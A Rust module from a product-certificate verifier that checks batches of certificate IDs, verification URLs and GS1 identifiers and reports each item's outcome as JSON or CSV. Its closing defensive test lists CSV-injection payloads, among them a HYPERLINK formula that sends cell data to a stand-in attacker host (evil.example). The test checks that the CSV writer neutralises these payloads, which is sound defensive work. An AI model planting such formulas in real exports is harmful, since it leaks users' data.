//! A consignment check (issue 48): many codes verified in one go, as a customs officer
//! checks a shipment. An item is what a code on the packaging carries or what a list
//! names: a certificate ID, a verification URL (with or without its offline token), a GS1
//! Digital Link URI or a GS1 element string. Each is answered on its own, in the order
//! given: a malformed item is that item's error, never the whole list's.
//!
//! The wire types of the request and the report are here, shared by the verifier's
//! `POST /api/v1/verify` and the CLI's `nanotrace verify --manifest`; with feature `csv`,
//! the same as CSV.
//!
//! A check answers for one verifier ([`OwnSite`]): a verification URL of another site is
//! `foreign_site`, never `valid`; a GS1 Digital Link URI on another host is checked by its
//! GS1 keys, and its report names that host ([`site`]).

use crate::digital_link::{DigitalLink, DigitalLinkError};
use crate::token::OfflineToken;
use crate::validate::{self, ValidationError};
use crate::{preferred_for_lot, Certificate, IssuerKey, Verdict, Verification};
use serde::{Deserialize, Serialize};
use url::Origin;

pub mod site;
pub use site::OwnSite;

/// Items in one consignment check, at most.
pub const MAX_ITEMS: usize = 1000;
/// Characters in one item, at most (a verification URL with its token is ~400).
pub const MAX_ITEM_CHARS: usize = 2048;

/// What an item names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ItemRef {
    /// A certificate ID (`NT-…`).
    Certificate {
        /// The ID.
        id: String,
    },
    /// A verification URL (`…/c/{id}`, the QR code's), with the offline token of its
    /// `t` parameter when it has one.
    Link {
        /// The certificate it names.
        id: String,
        /// The offline token, to check against the trust list.
        token: Option<String>,
        /// The site (scheme, host, port) the URL is on.
        origin: Origin,
    },
    /// A product lot by its GS1 identification (Digital Link URI or element string).
    Product {
        /// The GS1 keys.
        link: DigitalLink,
        /// The site a Digital Link URI is on (none for an element string).
        origin: Option<Origin>,
    },
}

/// Why an item names nothing that can be checked.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ItemError {
    /// Nothing but blanks.
    #[error("the item is empty")]
    Empty,
    /// Longer than [`MAX_ITEM_CHARS`].
    #[error("the item has more than {MAX_ITEM_CHARS} characters")]
    TooLong,
    /// A certificate ID that is not one.
    #[error("{0}")]
    CertificateId(ValidationError),
    /// A GS1 identification that is not one.
    #[error("GS1: {0}")]
    Gs1(DigitalLinkError),
    /// A URL that is neither a verification URL nor a Digital Link URI.
    #[error("{0}")]
    Url(String),
    /// None of the forms an item takes.
    #[error(
        "not a certificate ID (NT-…), a verification URL (…/c/NT-…), a GS1 Digital Link URI (…/01/{{gtin}}/10/{{lot}}) \
         or a GS1 element string ((01)…(10)…)"
    )]
    Unrecognised,
}

impl ItemRef {
    /// Reads one item (surrounding blanks ignored).
    pub fn parse(text: &str) -> Result<ItemRef, ItemError> {
        let text = text.trim();
        if text.is_empty() {
            return Err(ItemError::Empty);
        }
        if text.chars().count() > MAX_ITEM_CHARS {
            return Err(ItemError::TooLong);
        }
        if text.starts_with(crate::CERTIFICATE_ID_PREFIX) || text.starts_with("nt-") {
            validate::certificate_id("item", text).map_err(ItemError::CertificateId)?;
            return Ok(ItemRef::Certificate { id: text.to_owned() });
        }
        if text.starts_with("http://") || text.starts_with("https://") {
            return parse_url(text);
        }
        if text.starts_with('(') || text.starts_with(']') || text.starts_with("01") || text.starts_with('\u{1d}') {
            return DigitalLink::parse_element_string(text)
                .map(|link| ItemRef::Product { link, origin: None })
                .map_err(ItemError::Gs1);
        }
        Err(ItemError::Unrecognised)
    }
}

/// A verification URL or a Digital Link URI.
fn parse_url(text: &str) -> Result<ItemRef, ItemError> {
    let url = url::Url::parse(text).map_err(|e| ItemError::Url(format!("not a URL: {e}")))?;
    let path = url.path();
    if let Some(id) = path.rsplit_once("/c/").map(|(_, id)| id).filter(|id| !id.contains('/')) {
        validate::certificate_id("the URL's certificate", id).map_err(ItemError::CertificateId)?;
        let token = url.query_pairs().find(|(k, _)| k == "t").map(|(_, v)| v.into_owned());
        return Ok(ItemRef::Link { id: id.to_owned(), token, origin: url.origin() });
    }
    // A Digital Link URI may have a path before its primary key (GS1 allows a prefix).
    if let Some(at) = path.find("/01/") {
        return DigitalLink::parse(&path[at..])
            .map(|link| ItemRef::Product { link, origin: Some(url.origin()) })
            .map_err(ItemError::Gs1);
    }
    Err(ItemError::Url("a URL that is neither a verification page (…/c/NT-…) nor a GS1 Digital Link (…/01/…)".into()))
}

/// `POST /api/v1/verify` with a list: the items, as text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ConsignmentRequest {
    /// Up to [`MAX_ITEMS`] items.
    pub items: Vec<String>,
}

/// What an item comes to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Outcome {
    /// Its certificate is VALID (and its token, when it had one, is authentic).
    Valid,
    /// Checked, and not to be relied on: the reason says why.
    NotValid,
    /// The item could not be checked: malformed, or the verifier cannot vouch for its
    /// data now (UNVERIFIABLE).
    Error,
    /// A verification URL of another site (not this verifier's scheme, host and port):
    /// whatever that site's page shows is not this verifier's answer ([`site`]).
    ForeignSite,
}

impl Outcome {
    /// Every outcome.
    pub const ALL: [Outcome; 4] = [Outcome::Valid, Outcome::NotValid, Outcome::Error, Outcome::ForeignSite];

    /// `valid`, `not_valid`, `error`, `foreign_site`.
    pub fn as_str(self) -> &'static str {
        match self {
            Outcome::Valid => "valid",
            Outcome::NotValid => "not_valid",
            Outcome::Error => "error",
            Outcome::ForeignSite => "foreign_site",
        }
    }
}

/// Why an item is not valid, as a token a program can branch on.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Problem {
    /// The item is not one of the forms (see [`ItemError`]).
    Malformed,
    /// No certificate of that ID.
    NotFound,
    /// Applied for, not (yet) issued: pending or rejected.
    NotIssued,
    /// Past its validity.
    Expired,
    /// Suspended by its certifier.
    Suspended,
    /// Revoked (the reason says why, as the certifier recorded it).
    Revoked,
    /// Replaced by a renewal (the certificate to rely on is the newer one).
    Superseded,
    /// The URL's offline token does not verify against the trust list, or names another
    /// certificate.
    TokenInvalid,
    /// The record says the certificate is in force, but no certifier's signature vouches
    /// for it (UNTRUSTED).
    Untrusted,
    /// A product lot with no issued certificate.
    LotNotCertified,
    /// A GTIN without a lot: a product, not something one certificate covers.
    NoLot,
    /// The verifier cannot vouch for its data now.
    Unverifiable,
    /// A verification URL of another site ([`Outcome::ForeignSite`]).
    ForeignSite,
}

impl Problem {
    /// Every problem.
    pub const ALL: [Problem; 13] = [
        Problem::Malformed,
        Problem::NotFound,
        Problem::NotIssued,
        Problem::Expired,
        Problem::Suspended,
        Problem::Revoked,
        Problem::Superseded,
        Problem::TokenInvalid,
        Problem::Untrusted,
        Problem::LotNotCertified,
        Problem::NoLot,
        Problem::Unverifiable,
        Problem::ForeignSite,
    ];

    /// The problem a verdict other than VALID is.
    pub fn of(verdict: Verdict) -> Option<Problem> {
        Some(match verdict {
            Verdict::Valid => return None,
            Verdict::Expired => Problem::Expired,
            Verdict::Suspended => Problem::Suspended,
            Verdict::Revoked => Problem::Revoked,
            Verdict::Superseded => Problem::Superseded,
            Verdict::Pending | Verdict::Rejected => Problem::NotIssued,
            Verdict::Unknown => Problem::NotFound,
            Verdict::Unverifiable => Problem::Unverifiable,
            Verdict::Untrusted => Problem::Untrusted,
        })
    }

    /// The token (`not_found`, …).
    pub fn as_str(self) -> &'static str {
        match self {
            Problem::Malformed => "malformed",
            Problem::NotFound => "not_found",
            Problem::NotIssued => "not_issued",
            Problem::Expired => "expired",
            Problem::Suspended => "suspended",
            Problem::Revoked => "revoked",
            Problem::Superseded => "superseded",
            Problem::TokenInvalid => "token_invalid",
            Problem::Untrusted => "untrusted",
            Problem::LotNotCertified => "lot_not_certified",
            Problem::NoLot => "no_lot",
            Problem::Unverifiable => "unverifiable",
            Problem::ForeignSite => "foreign_site",
        }
    }

    /// Whether the item was checked (not valid) or could not be (an error).
    pub fn outcome(self) -> Outcome {
        match self {
            Problem::Malformed | Problem::Unverifiable => Outcome::Error,
            Problem::ForeignSite => Outcome::ForeignSite,
            _ => Outcome::NotValid,
        }
    }
}

/// One item's answer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ItemReport {
    /// Its position in the list, from 0.
    pub index: usize,
    /// The item as given.
    pub input: String,
    /// What it comes to.
    pub outcome: Outcome,
    /// The certificate's verdict, when the item resolved to one.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub verdict: Option<Verdict>,
    /// The certificate it resolved to.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub certificate_id: Option<String>,
    /// Why it is not valid.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub problem: Option<Problem>,
    /// In words.
    pub reason: String,
    /// The other site (`scheme://host[:port]`) the item's URL is on, when it is not this
    /// verifier's: a verification URL's (outcome `foreign_site`) or a Digital Link URI's
    /// (checked by its GS1 keys).
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub foreign_site: Option<String>,
}

impl ItemReport {
    /// A malformed item's answer.
    pub fn malformed(index: usize, input: &str, error: &ItemError) -> ItemReport {
        ItemReport {
            index,
            input: input.to_owned(),
            outcome: Outcome::Error,
            verdict: None,
            certificate_id: None,
            problem: Some(Problem::Malformed),
            reason: error.to_string(),
            foreign_site: None,
        }
    }

    /// The answer for a verification URL of another site, `site`, naming certificate `id`:
    /// not checked here, and never valid.
    pub fn foreign(index: usize, input: &str, id: &str, site: String, own: &OwnSite) -> ItemReport {
        ItemReport {
            index,
            input: input.to_owned(),
            outcome: Outcome::ForeignSite,
            verdict: None,
            certificate_id: Some(id.to_owned()),
            problem: Some(Problem::ForeignSite),
            reason: format!(
                "a verification page of another site, {site}, not of this verifier ({}): what that site shows \
                 is not this verifier's answer; look {id} up here",
                own.shown()
            ),
            foreign_site: Some(site),
        }
    }

    /// The answer for an item that resolved to certificate `id` with `verdict`
    /// (`problem` overrides the verdict's own, e.g. a token that does not verify).
    pub fn resolved(
        index: usize,
        input: &str,
        id: Option<&str>,
        verdict: Verdict,
        problem: Option<Problem>,
        reason: &str,
    ) -> ItemReport {
        let problem = problem.or(Problem::of(verdict));
        ItemReport {
            index,
            input: input.to_owned(),
            outcome: problem.map_or(Outcome::Valid, Problem::outcome),
            verdict: Some(verdict),
            certificate_id: id.map(str::to_owned),
            problem,
            reason: reason.to_owned(),
            foreign_site: None,
        }
    }
}

/// The counts of a report.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Summary {
    /// Items checked.
    pub total: usize,
    /// VALID.
    pub valid: usize,
    /// Checked and not valid.
    pub not_valid: usize,
    /// Could not be checked.
    pub errors: usize,
    /// Verification URLs of another site.
    #[serde(default)]
    pub foreign_site: usize,
}

/// The answer to a consignment check.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ConsignmentReport {
    /// When it was checked (Unix seconds).
    pub checked_at: i64,
    /// The ledger block the verifier's copy had reached (none when the checker reads the
    /// ledger itself, as the CLI does).
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub ledger_block: Option<u64>,
    /// The counts.
    pub summary: Summary,
    /// Every item, in the order given.
    pub items: Vec<ItemReport>,
}

impl ConsignmentReport {
    /// The report of `items` (in order).
    pub fn new(checked_at: i64, ledger_block: Option<u64>, items: Vec<ItemReport>) -> ConsignmentReport {
        let mut summary = Summary { total: items.len(), ..Summary::default() };
        for item in &items {
            match item.outcome {
                Outcome::Valid => summary.valid += 1,
                Outcome::NotValid => summary.not_valid += 1,
                Outcome::Error => summary.errors += 1,
                Outcome::ForeignSite => summary.foreign_site += 1,
            }
        }
        ConsignmentReport { checked_at, ledger_block, summary, items }
    }
}

/// Where a consignment check reads the ledger: the verifier's cache, or the CLI's ledger
/// (embedded or through a Fabric gateway). Errors are sentences (an item's reason).
pub trait Source {
    /// The verdict on certificate `id` at `at`.
    fn verification(&self, id: &str, at: i64) -> Result<Verification, String>;
    /// The certificates recorded for lot `lot` of the product `gtin` (in any of the GTIN's
    /// lengths: [`crate::link::gtin_forms`]).
    fn lot_certificates(&self, gtin: &str, lot: &str) -> Result<Vec<Certificate>, String>;
    /// The trust list (offline tokens are checked against it).
    fn issuers(&self) -> Result<Vec<IssuerKey>, String>;
    /// Why the source cannot vouch for its data at `at` (None: it can). A stale source
    /// answers every item UNVERIFIABLE, never VALID.
    fn staleness(&self, at: i64) -> Option<String>;
}

/// Checks `items` at time `at` against `source`, for the verifier whose site is `site`;
/// `ledger_block` is the block the source has reached.
pub fn check<S: Source>(
    source: &S,
    site: &OwnSite,
    items: &[String],
    at: i64,
    ledger_block: Option<u64>,
) -> ConsignmentReport {
    let issuers = source.issuers();
    // Asked once: a list is answered from one state of the source.
    let stale = source.staleness(at);
    let reports = items
        .iter()
        .enumerate()
        .map(|(index, input)| {
            check_item(&Against { source, site, issuers: &issuers, stale: stale.as_deref(), at }, index, input)
        })
        .collect();
    ConsignmentReport::new(at, ledger_block, reports)
}

/// What every item of a list is checked against.
struct Against<'a, S> {
    /// The ledger.
    source: &'a S,
    /// This verifier's site.
    site: &'a OwnSite,
    /// The trust list, or why it cannot be read.
    issuers: &'a Result<Vec<IssuerKey>, String>,
    /// Why the source cannot vouch for its data (None: it can).
    stale: Option<&'a str>,
    /// The time of the check.
    at: i64,
}

/// One item's answer.
fn check_item<S: Source>(c: &Against<'_, S>, index: usize, input: &str) -> ItemReport {
    let site = c.site;
    let parsed = match ItemRef::parse(input) {
        Ok(parsed) => parsed,
        Err(e) => return ItemReport::malformed(index, input, &e),
    };
    let other = match &parsed {
        ItemRef::Link { origin, .. } | ItemRef::Product { origin: Some(origin), .. } => site.other(origin),
        _ => None,
    };
    // Another site's verification page is not checked here, even from a stale copy.
    if let (ItemRef::Link { id, .. }, Some(other)) = (&parsed, &other) {
        return ItemReport::foreign(index, input, id, other.clone(), site);
    }
    let mut report = check_parsed(c, index, input, parsed);
    // A Digital Link URI on another host: its GS1 keys were checked, and the report says
    // the host is not this verifier.
    if let Some(other) = other {
        report.reason = format!(
            "{} (the Digital Link is on another site, {other}, not this verifier: this answer is for its GS1 keys, \
             not for what that site shows)",
            report.reason
        );
        report.foreign_site = Some(other);
    }
    report
}

/// The answer for an item read as `parsed` (its site already weighed).
fn check_parsed<S: Source>(c: &Against<'_, S>, index: usize, input: &str, parsed: ItemRef) -> ItemReport {
    let (source, issuers, stale, at) = (c.source, c.issuers, c.stale, c.at);
    let unverifiable =
        |id: Option<&str>, why: &str| ItemReport::resolved(index, input, id, Verdict::Unverifiable, None, why);
    if let Some(why) = stale {
        let id = match &parsed {
            ItemRef::Certificate { id } | ItemRef::Link { id, .. } => Some(id.as_str()),
            ItemRef::Product { .. } => None,
        };
        return unverifiable(id, why);
    }
    let certificate = |id: &str, token_problem: Option<String>| match source.verification(id, at) {
        Ok(v) => match token_problem {
            // A token that does not verify outweighs what the ledger says.
            Some(why) if v.verdict != Verdict::Unverifiable => {
                ItemReport::resolved(index, input, Some(id), v.verdict, Some(Problem::TokenInvalid), &why)
            }
            _ => ItemReport::resolved(index, input, Some(id), v.verdict, None, &v.reason),
        },
        Err(why) => unverifiable(Some(id), &why),
    };
    match parsed {
        ItemRef::Certificate { id } | ItemRef::Link { id, token: None, .. } => certificate(&id, None),
        ItemRef::Link { id, token: Some(token), .. } => {
            let problem = match (OfflineToken::decode(&token), issuers) {
                (Err(e), _) => Some(format!("the offline token is invalid: {e}")),
                (Ok(t), _) if t.certificate_id != id => {
                    Some(format!("the offline token is for {}, not for {id}", t.certificate_id))
                }
                (Ok(_), Err(why)) => return unverifiable(Some(&id), why),
                (Ok(t), Ok(keys)) => {
                    t.verify(keys, at).err().map(|e| format!("the offline token does not verify: {e}"))
                }
            };
            certificate(&id, problem)
        }
        ItemRef::Product { link, .. } => {
            let Some(lot) = link.lot.as_deref() else {
                return ItemReport::resolved(
                    index,
                    input,
                    None,
                    Verdict::Unknown,
                    Some(Problem::NoLot),
                    "a GTIN without a lot (10) names a product; a certificate covers a lot",
                );
            };
            let keys = match issuers {
                Ok(keys) => keys,
                Err(why) => return unverifiable(None, why),
            };
            match source.lot_certificates(&link.gtin, lot) {
                Ok(certs) => match preferred_for_lot(&certs, keys, at) {
                    Some(cert) => certificate(&cert.id, None),
                    None => ItemReport::resolved(
                        index,
                        input,
                        None,
                        Verdict::Unknown,
                        Some(Problem::LotNotCertified),
                        &format!("no issued certificate covers lot {lot} of GTIN {}", link.gtin14()),
                    ),
                },
                Err(why) => unverifiable(None, &why),
            }
        }
    }
}

/// Reading a list from CSV and writing a report as CSV (feature `csv`).
#[cfg(feature = "csv")]
pub mod csv_format;

#[cfg(test)]
mod tests {
    use super::*;

    const GTIN: &str = "04006381333931";

    fn origin(url: &str) -> Origin {
        url::Url::parse(url).expect("URL").origin()
    }

    #[test]
    fn every_form_of_item() {
        let id = "NT-ABCDEFGHIJK2";
        let verify = || origin("https://verify.example");
        assert_eq!(ItemRef::parse(&format!("  {id} ")), Ok(ItemRef::Certificate { id: id.into() }));
        assert_eq!(
            ItemRef::parse(&format!("https://verify.example/c/{id}?t=TOKEN")),
            Ok(ItemRef::Link { id: id.into(), token: Some("TOKEN".into()), origin: verify() })
        );
        assert_eq!(
            ItemRef::parse(&format!("https://verify.example/c/{id}")),
            Ok(ItemRef::Link { id: id.into(), token: None, origin: verify() })
        );
        let product = |lot: &str| DigitalLink { gtin: GTIN.into(), cpv: None, lot: Some(lot.into()), serial: None };
        assert_eq!(
            ItemRef::parse(&format!("https://id.example/shop/01/{GTIN}/10/L%201")),
            Ok(ItemRef::Product { link: product("L 1"), origin: Some(origin("https://id.example")) })
        );
        let element = || Ok(ItemRef::Product { link: product("L1"), origin: None });
        assert_eq!(ItemRef::parse(&format!("(01){GTIN}(10)L1")), element());
        assert_eq!(ItemRef::parse(&format!("]d201{GTIN}10L1")), element());
        // An element string as a scanner without a symbology identifier passes it on.
        assert_eq!(ItemRef::parse(&format!("01{GTIN}10L1")), element());
        assert_eq!(ItemRef::parse(&format!("\u{1d}01{GTIN}10L1")), element());
    }

    #[test]
    fn outcomes_and_problems_are_named_as_on_the_wire() {
        for problem in Problem::ALL {
            assert_eq!(serde_json::to_value(problem).ok(), Some(problem.as_str().into()), "{problem:?}");
            let outcome = problem.outcome();
            assert_eq!(serde_json::to_value(outcome).ok(), Some(outcome.as_str().into()), "{outcome:?}");
        }
        assert_eq!(Problem::ForeignSite.outcome(), Outcome::ForeignSite);
        assert_eq!(Problem::Unverifiable.outcome(), Outcome::Error);
        assert_eq!(Problem::Revoked.outcome(), Outcome::NotValid);
        assert_eq!(Outcome::Valid.as_str(), "valid");
    }

    #[test]
    fn malformed_items_say_why() {
        for (text, says) in [
            ("", "empty"),
            ("NT-abc", "exactly 12"),
            ("nt-abcdefghijk2", "must start with \"NT-\""),
            ("https://verify.example/c/NT-1", "exactly 12"),
            ("https://verify.example/about", "neither"),
            ("http://[::1", "not a URL"),
            ("(01)123(10)L", "GS1"),
            ("hello", "not a certificate ID"),
        ] {
            let why = ItemRef::parse(text).expect_err(text).to_string();
            assert!(why.contains(says), "{text:?}: {why}");
        }
        assert_eq!(ItemRef::parse(&"N".repeat(MAX_ITEM_CHARS + 1)), Err(ItemError::TooLong));
    }

    #[test]
    fn a_report_counts_its_outcomes() {
        let items = vec![
            ItemReport::resolved(0, "a", Some("NT-A"), Verdict::Valid, None, "in force"),
            ItemReport::resolved(1, "b", Some("NT-B"), Verdict::Revoked, None, "contamination"),
            ItemReport::resolved(2, "c", Some("NT-C"), Verdict::Valid, Some(Problem::TokenInvalid), "bad signature"),
            ItemReport::malformed(3, "d", &ItemError::Unrecognised),
            ItemReport::resolved(4, "e", None, Verdict::Unverifiable, None, "stale"),
        ];
        let report = ConsignmentReport::new(1, Some(2), items);
        assert_eq!(report.summary, Summary { total: 5, valid: 1, not_valid: 2, errors: 2, foreign_site: 0 });
        assert_eq!(report.items[2].outcome, Outcome::NotValid, "a VALID certificate behind a bad token is not valid");
        let json = serde_json::to_value(&report).expect("json");
        assert_eq!(json["items"][1]["problem"], "revoked");
        assert_eq!(json["items"][3]["outcome"], "error");
    }

    #[cfg(feature = "csv")]
    #[test]
    fn csv_in_and_out() {
        let items = csv_format::read_items(b"item\nNT-A\n\n\"https://v.example/c/NT-B?t=x,y\",note\n").expect("csv");
        assert_eq!(items, vec!["NT-A".to_owned(), "https://v.example/c/NT-B?t=x,y".to_owned()]);
        // Without a header the first record is an item; `item` past the first is one too.
        let items = csv_format::read_items(b"NT-A\nitem\n").expect("csv");
        assert_eq!(items, vec!["NT-A".to_owned(), "item".to_owned()]);
        let err = csv_format::read_items(b"NT-A\n\xff\xfe\n").expect_err("not UTF-8").to_string();
        assert!(err.starts_with("line 2:"), "{err}");
        let out = csv_format::write_report(&[ItemReport::malformed(0, "x,y", &ItemError::Empty)]);
        let text = String::from_utf8(out).expect("utf-8");
        assert_eq!(
            text,
            "\"index\",\"input\",\"outcome\",\"verdict\",\"certificate_id\",\"problem\",\"reason\",\"foreign_site\"\n\
             \"0\",\"x,y\",\"error\",\"\",\"\",\"malformed\",\"the item is empty\",\"\"\n"
        );
    }

    /// CSV injection (issue 71): an item that a spreadsheet would run as a formula comes
    /// back in the CSV report as text — every cell that starts with `=`, `+`, `-`, `@`, TAB
    /// or CR (or has one after a character a spreadsheet may split cells on) gets a `'`
    /// before it, every cell is quoted — while the JSON report keeps the item as given.
    #[cfg(feature = "csv")]
    #[test]
    fn csv_report_cells_are_never_formulas() {
        let formulas = [
            (
                "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Verify\")",
                "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Verify\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t'=1+1"),
            ("\r=1+1", "'\r'=1+1"),
            ("NT-A;=1+1", "NT-A;'=1+1"),
            ("NT-A,@cmd", "NT-A,'@cmd"),
            ("NT-A\t-1", "NT-A\t'-1"),
            ("NT-A\n=1+1", "NT-A\n'=1+1"),
        ];
        let mut all: Vec<ItemReport> = formulas
            .iter()
            .enumerate()
            .map(|(i, (text, _))| ItemReport::malformed(i, text, &ItemError::Unrecognised))
            .collect();
        all.push(ItemReport::resolved(
            10,
            "NT-B",
            Some("NT-B"),
            Verdict::Revoked,
            None,
            "=1+1 (the certifier's words)",
        ));
        let out = csv_format::write_report(&all);
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(&out[..]);
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("CSV")).collect();
        assert_eq!(rows.len(), all.len());
        for (row, (given, written)) in rows.iter().zip(formulas) {
            assert_eq!(row.get(1), Some(written), "{given:?}");
        }
        assert_eq!(rows[10].get(6), Some("'=1+1 (the certifier's words)"));
        for row in &rows {
            for cell in row {
                let mut starts = vec![cell];
                starts.extend(cell.split([',', ';', '\t', '\r', '\n']).skip(1));
                for start in starts {
                    assert!(
                        !start.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "a formula cell: {cell:?} in {row:?}"
                    );
                }
            }
        }
        let text = String::from_utf8(out).expect("UTF-8");
        assert!(
            text.ends_with(
                "\"10\",\"NT-B\",\"not_valid\",\"REVOKED\",\"NT-B\",\"revoked\",\"'=1+1 (the certifier's words)\",\"\"\n"
            ),
            "every cell quoted: {text}"
        );
        // The JSON report says what was given.
        let json = serde_json::to_value(&all[0]).expect("json");
        assert_eq!(json["input"], formulas[0].0);
    }
}
